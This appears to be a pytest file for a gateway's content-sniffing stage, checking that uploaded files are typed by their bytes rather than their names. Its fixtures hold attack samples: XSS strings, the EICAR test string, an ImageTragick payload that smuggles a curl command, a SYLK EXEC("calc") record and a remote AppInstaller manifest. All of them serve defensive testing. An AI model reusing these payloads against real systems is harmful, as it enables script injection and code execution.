"""The sniff table: real type from content, never from the name."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile

import pytest

from gateway.pipeline.sniff import sniff_bytes
from tests.conftest import ROOT
from tests.helpers import ooxmlgen as G


def ooxml(main_ctype: str, extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main_ctype}"/></Types>'))
        zf.writestr("word/document.xml", "<w:document/>")
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def plain_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("a.txt", "hello")
    return buf.getvalue()


W = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WM = "application/vnd.ms-word.document.macroEnabled.main+xml"

CASES: list[tuple[str, bytes, str]] = [
    ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pdf"),
    ("pdf after junk", b"\x00" * 100 + b"%PDF-1.4\n", "pdf"),
    # Chrome reads a %PDF without its version (corkami's inline-chrome2.pdf)
    ("pdf without a version", b"%PDF01234\n1 0 obj<</Root 1 0 R>>stream\n0\nendstream",
     "pdf"),
    ("text about the pdf header", b"The file starts with %PDF and a version.\n", "text.plain"),
    ("pdf with a broken header", b"%PFD-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>"
                                 b"\nendobj\n", "pdf"),
    ("docx", ooxml(W), "ooxml.docx"),
    ("docm", ooxml(WM), "ooxml.docm"),
    ("vsdx", G.vsdx(), "ooxml.vsdx"),
    ("vsdm", G.vsdx(macros=True), "ooxml.vsdm"),
    ("zip", plain_zip(), "archive.zip"),
    ("rtf", b"{\\rtf1\\ansi hello}", "rtf"),
    ("rtf word-style header", b"{\\rtxyz hello}", "rtf"),
    ("pe", b"MZ\x90\x00\x03" + b"\x00" * 59, "executable.pe"),
    ("elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 9, "executable.elf"),
    ("macho", b"\xcf\xfa\xed\xfe" + b"\x00" * 28, "executable.macho"),
    ("lnk", bytes.fromhex("4C0000000114020000000000C000000000000046") + b"\x00" * 56,
     "executable.lnk"),
    ("onenote", bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + b"\x00" * 16,
     "executable.onenote"),
    ("text padded with NUL", b"this is a test\n" + bytes(17), "text.plain"),
    ("json", b'{"offsets": [0, 1024, 2048], "name": "mbox"}\n', "text.plain"),
    ("ndjson", b'{"a":1}\n{"a":2}\n{"a":3}\n', "text.plain"),
    ("pgp key", b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQENBFxyz\n=abcd\n"
                b"-----END PGP PUBLIC KEY BLOCK-----\n", "text.plain"),
    ("pgp signature", b"-----BEGIN PGP SIGNATURE-----\n\niQEzBAABCAAdFiEE\n=abcd\n"
                      b"-----END PGP SIGNATURE-----\n", "text.plain"),
    ("pgp message", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n=abcd\n-----END PGP MESSAGE-----\n",
     "unknown.application-pgp-encrypted"),
    ("html padded with NUL", b"<html><body><script>x()</script></body></html>" + bytes(9), "html"),
    ("binary ending in NUL", b"\x01\x02\x03\x9f\x92\x96\xa8" * 9 + bytes(9),
     "unknown.application-octet-stream"),
    ("NUL inside text", b"this is\x00 a test\n" + bytes(3), "unknown.application-octet-stream"),
    ("EICAR test file", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
     + b"\r\n", "executable.com"),
    # libmagic names no single byte ("very short file"): a printable one is text
    ("one letter", b"x", "text.plain"),
    ("one digit", b"1", "text.plain"),
    ("one line end", b"\n", "text.plain"),
    ("one high byte", b"\xff", "unknown.application-octet-stream"),
    ("one NUL", b"\x00", "unknown.application-octet-stream"),
    ("iso", b"\x00" * 0x8001 + b"CD001" + b"\x00" * 100, "archive.iso"),
    ("wim", b"MSWIM\x00\x00\x00" + bytes(200), "archive.wim"),
    ("arj", b"\x60\xea\x2b\x00" + bytes(60), "archive.arj"),
    ("dmg", bytes(2048) + b"koly\x00\x00\x00\x04\x00\x00\x02\x00" + bytes(500), "archive.dmg"),
    ("chm", b"ITSF\x03\x00\x00\x00" + b"\x00" * 32, "executable.chm"),
    ("vhd", b"conectix" + b"\x00" * 100, "archive.vhd"),
    ("fixed vhd", bytes(4096) + b"conectix" + bytes(504), "archive.vhd"),
    ("vhdx", b"vhdxfile" + b"\x00" * 100, "archive.vhdx"),
    ("slk", b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE\r\n", "text.sylk"),
    ("fods", b'<?xml version="1.0"?>\n<office:document xmlns:office="urn:oasis:names:tc:'
             b'opendocument:xmlns:office:1.0" office:version="1.3" office:mimetype='
             b'"application/vnd.oasis.opendocument.spreadsheet"/>', "odf.flat"),
    ("xml2003", b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
                b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
     "ooxml.xmlss"),
    ("xml2003-no-pi", b'<?xml version="1.0"?>\n<ss:Workbook xmlns:ss="urn:schemas-microsoft-'
                      b'com:office:spreadsheet"/>', "ooxml.xmlss"),
    ("iqy", b"WEB\r\n1\r\nhttp://example.invalid/x\r\n", "executable.iqy"),
    # PayloadsAllTheThings' imagetragik1_payload_url_curl.png: an ImageMagick script
    ("mvg named as a picture", b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://"
                               b"example.invalid/x.jpg\";curl \"127.0.0.1)'\npop graphic-context\n",
     "executable.script"),
    ("png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "image.png"),
    ("jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 20, "image.jpeg"),
    ("gif", b"GIF89a" + b"\x00" * 20, "image.gif"),
    ("webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 20, "image.webp"),
    ("7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 20, "archive.7z"),
    ("rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20, "archive.rar"),
    ("gzip", b"\x1f\x8b\x08\x00" + b"\x00" * 20, "archive.gzip"),
    ("html", b"<!DOCTYPE html><html><body>x</body></html>", "html"),
    ("html fragment", b"<p>hello <b>there</b></p>\n<script>alert(1)</script>", "html"),
    ("svg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', "svg"),
    # editors that write their comment first; a DOCTYPE with an internal subset; UTF-16
    ("svg after a comment", b"<!-- Created with Inkscape -->\n<svg xmlns="
                            b'"http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "svg"),
    ("svg after a dtd", b'<?xml version="1.0"?>\n<!-- g -->\n<!DOCTYPE svg PUBLIC "a" "b" [\n'
                        b'<!ENTITY ns "x">\n]>\n<svg version="1.1"/>', "svg"),
    ("svg in utf-16", '<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/'
                      '2000/svg"><script>alert(1)</script></svg>'.encode("utf-16"), "svg"),
    ("xml with svg inside", b'<?xml version="1.0"?>\n<doc><svg xmlns="http://www.w3.org/2000/'
                            b'svg"/></doc>', "text.xml"),
    ("mail", b"From: a@example.jp\r\nTo: b@example.jp\r\nSubject: hi\r\n\r\nbody\r\n",
     "mail.eml"),
    ("mbox", b"From a@example.jp Thu Nov 26 10:00:00 2026\nFrom: a@example.jp\nTo: b@x\n\nhi\n",
     "mail.mbox"),
    ("mime with one header", b'Content-Type: multipart/alternative; boundary="b"\n\n--b\n'
                             b"Content-Type: text/html\n\n<script>alert(1)</script>\n--b--\n",
     "mail.eml"),
    ("text with a colon line", b"Note: the meeting moved\n\nSee you.\n", "text.plain"),
    ("text", "議事録です。\n".encode(), "text.plain"),
    ("empty", b"", "unknown.empty"),
]


@pytest.mark.parametrize(("label", "data", "expected"), CASES, ids=[c[0] for c in CASES])
def test_table(label: str, data: bytes, expected: str) -> None:
    assert sniff_bytes(data).type_id == expected


def test_a_long_prolog_is_read_once() -> None:
    """Two hundred processing instructions not followed by <svg>: the SVG root pattern
    once tried every way of joining them (exponential: 22 took 0.5 s, 40 hours). The
    regular expression engine holds the GIL, so the check runs in a child process that
    can be killed."""
    code = ("from gateway.pipeline.sniff import sniff_bytes as s; "
            "print(s(b'<?a?>' * 200 + b'<x>1</x>').type_id, s(b'<!--a-->' * 200 + b'<svg/>')"
            ".type_id)")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60, check=True, cwd=ROOT)
    assert done.stdout.split() == ["text.plain", "svg"]


def test_ooxml_kind_comes_from_content_types_not_name() -> None:
    got = sniff_bytes(ooxml(WM), "report.docx")
    assert got.type_id == "ooxml.docm"
    assert not got.mismatch  # same family: the stage converts docm -> docx and reports it


@pytest.mark.parametrize(("name", "data", "mismatch"), [
    ("invoice.pdf", b"MZ\x90\x00" + b"\x00" * 60, True),
    ("letter.doc", b"{\\rtf1 hi}", True),
    ("photo.jpg", b"%PDF-1.4\n", True),
    ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 20, False),
    ("noext", b"%PDF-1.4\n", False),
    ("weird.xyz", b"%PDF-1.4\n", False),
])
def test_declared_type_mismatch(name: str, data: bytes, mismatch: bool) -> None:
    assert sniff_bytes(data, name).mismatch is mismatch


@pytest.mark.parametrize(("name", "expected"), [
    ("message.eml", "mail.eml"), ("page.mht", "mail.eml"), ("notes.txt", "text.plain"),
    (None, "text.plain")])
def test_one_header_is_a_message_when_named_as_one(name: str | None, expected: str) -> None:
    """Outlook opens a .eml with a single header line as a message (rubymail's
    bad_encoded_subject.eml); without the name it is text with a colon in it."""
    data = b"Subject: =?NONE?B?VEVTVA=?=\r\n\r\nTEST\r\n"
    assert sniff_bytes(data, name).type_id == expected


#: text libmagic does not call HTML: plain text with a tag in it, CSV, a Jinja template
#: it takes for JavaScript (python-docx's docs/_themes/armstrong/layout.html)
_NOT_HTML_TO_LIBMAGIC = [
    b"hello world, this is a note about things\nand more text\n<img src=x onerror=alert(1)>\n",
    b"name,amount\nA,1\nB,<svg onload=alert(1)>\n",
    b'{% extends "basic/layout.html" %}\n{% set script_files = script_files + '
    b'[pathto("_static/searchtools.js", 1)] %}\n{% block footer %}<div>{{ x }}</div>\n',
]


@pytest.mark.parametrize("data", _NOT_HTML_TO_LIBMAGIC)
def test_a_html_name_is_read_as_html(data: bytes) -> None:
    """A browser renders a .html file as HTML whatever its text: the HTML stage must see
    it (as plain text its <img onerror> was delivered unchanged)."""
    assert sniff_bytes(data, "note.html").type_id == "html"
    assert sniff_bytes(data, "note.htm").type_id == "html"
    assert sniff_bytes(data, "note.txt").type_id != "html"


#: a page and a message with a stray control byte, which libmagic calls "data"
_STRAY_PAGE = b"<!-- Licensed to the city -->\n<html><body><p>\x01notes</p>" \
              b"<img src=x onerror=alert(1)></body></html>\n"
_STRAY_MAIL = (b"From: a@example.jp\r\nSubject: Redac\x11ed\r\n\xfeo: b@example.jp\r\n"
               b"Content-Type: text/html\r\n\r\n<p>body</p>\r\n")


def test_stray_control_bytes_keep_a_page_a_page_and_a_message_a_message() -> None:
    """Were blocked as unknown binary data (found by mutation fuzzing): a browser renders
    the page, a mail client opens the message (its header block ends at the line it
    cannot read). A file of mostly control bytes stays unknown."""
    assert sniff_bytes(_STRAY_PAGE).type_id == "unknown.application-octet-stream"
    assert sniff_bytes(_STRAY_PAGE, "page.html").type_id == "html"
    assert sniff_bytes(_STRAY_MAIL).type_id == "unknown.application-octet-stream"
    assert sniff_bytes(_STRAY_MAIL, "message.eml").type_id == "mail.eml"
    binary = bytes((i * 37 + 11) % 32 for i in range(512)) + b"<p>"
    assert sniff_bytes(binary, "page.html").type_id == "unknown.application-octet-stream"
    assert sniff_bytes(b"\xfeo: x\r\n\r\nbody\r\n" + bytes(range(9)) * 40,
                       "message.eml").type_id != "mail.eml"
    # binary data behind a header block (what the relay makes of DATA that is no message,
    # its own Received: line on top) stays data
    noise = bytes(b for b in range(256) if b not in (10, 13))
    assert sniff_bytes(b"Received: from x by y\r\n\r\n" + noise * 20,
                       "message.eml").type_id == "unknown.application-octet-stream"


def test_svg_our_root_check_misses_goes_to_the_svg_stage() -> None:
    """libmagic's image/svg+xml was turned into "image.svg+xml", for which there is no
    stage (blocked as unsupported); an .svg with a stray byte before its root was
    blocked as data. Both now reach the SVG stage, which recovers or refuses them."""
    mangled_root = (b'<svg\xdawidth="200" height="200"\n  xmlns="http://www.w3.org/2000/svg">\n'
                    b' <rect width="10" height="10"/>\n</svg>\n')
    assert sniff_bytes(mangled_root).type_id == "svg"
    stray = (b'\x01<svg xmlns="http://www.w3.org/2000/svg"><text>memo</text>'
             b"<script>alert(1)</script></svg>\n")
    assert sniff_bytes(stray).type_id == "unknown.application-octet-stream"
    assert sniff_bytes(stray, "drawing.svg").type_id == "svg"


def test_table_whose_first_column_is_named_id_is_no_sylk() -> None:
    """A CSV starting "id;payload" (PayloadsAllTheThings' CSV injection table) was read
    as SYLK, rebuilt empty and blocked; lines that are SYLK records keep it SYLK, in
    any case."""
    assert sniff_bytes(b"id;payload\r\n1;hello\r\n2;world\r\n", "t.csv").type_id \
        != "text.sylk"
    assert sniff_bytes(b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE\r\n").type_id == "text.sylk"
    assert sniff_bytes(b"id;pwxl;n;e\r\nc;y1;x1;k0;eEXEC(\"calc\")\r\ne\r\n").type_id \
        == "text.sylk"


@pytest.mark.parametrize("prolog", [
    b"<!-- " + b"padding " * 2000 + b"-->\n",
    b'<!DOCTYPE svg [\n' + b'<!ENTITY ns_x "http://ns.example/x">\n' * 400 + b"]>\n",
])
def test_svg_after_a_prolog_longer_than_the_sample_is_svg(prolog: bytes) -> None:
    """An SVG whose comments or DTD before the root run past the first 8 kB went to the
    XML stage and came out renamed .xml; other XML after such a prolog stays XML."""
    svg = b'<?xml version="1.0"?>\n' + prolog + \
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>memo</text></svg>\n'
    assert len(svg) > 8192
    assert sniff_bytes(svg).type_id == "svg"
    assert sniff_bytes(svg.replace(b"<svg", b"<doc").replace(b"</svg", b"</doc"),
                       "doc.xml").type_id == "text.xml"


@pytest.mark.parametrize("name", ["update.appinstaller", "addin.vsto"])
def test_installer_manifests_are_scripts(name: str) -> None:
    """XML that installs software from a URL when double-clicked (App Installer, used by
    Emotet in 2021; Office VSTO add-ins): blocked by name like the shell's other types,
    not delivered as XML."""
    data = (b'<?xml version="1.0" encoding="utf-8"?>\n<AppInstaller Uri="https://example.invalid'
            b'/a.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/'
            b'appinstaller/2018"><MainPackage Name="x" Uri="https://example.invalid/x.msix"/>'
            b"</AppInstaller>")
    assert sniff_bytes(data, name).type_id == "executable.script"


def _flag_encrypted(data: bytes, name: str) -> bytes:
    """``data`` with the encryption flag set on entry ``name`` (local and central)."""
    raw = bytearray(data)
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = zf.getinfo(name)
    raw[info.header_offset + 6] |= 0x01
    central = bytes(raw).find(b"PK\x01\x02")
    while central >= 0:
        size = int.from_bytes(raw[central + 28:central + 30], "little")
        if bytes(raw[central + 46:central + 46 + size]) == name.encode():
            raw[central + 8] |= 0x01
            break
        central = bytes(raw).find(b"PK\x01\x02", central + 4)
    return bytes(raw)


@pytest.mark.parametrize(("name", "entry", "expected"), [
    ("x.docx", "[Content_Types].xml", "ooxml.unknown"),
    ("x.odt", "mimetype", "archive.zip"),
])
def test_an_encrypted_entry_read_while_sniffing_is_no_crash(name: str, entry: str,
                                                            expected: str) -> None:
    """Found by mutating the corpus: an encryption flag on [Content_Types].xml made
    zipfile raise RuntimeError in the sniffer, and the file "failed" with an internal
    error; it is refused with a reason by the stage that reads it."""
    if name.endswith(".docx"):
        data = G.base_docx()
    else:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
            z.writestr("content.xml", "<x/>")
        data = buf.getvalue()
    with pytest.raises(RuntimeError):
        zipfile.ZipFile(io.BytesIO(_flag_encrypted(data, entry))).read(entry)
    assert sniff_bytes(_flag_encrypted(data, entry), name).type_id == expected
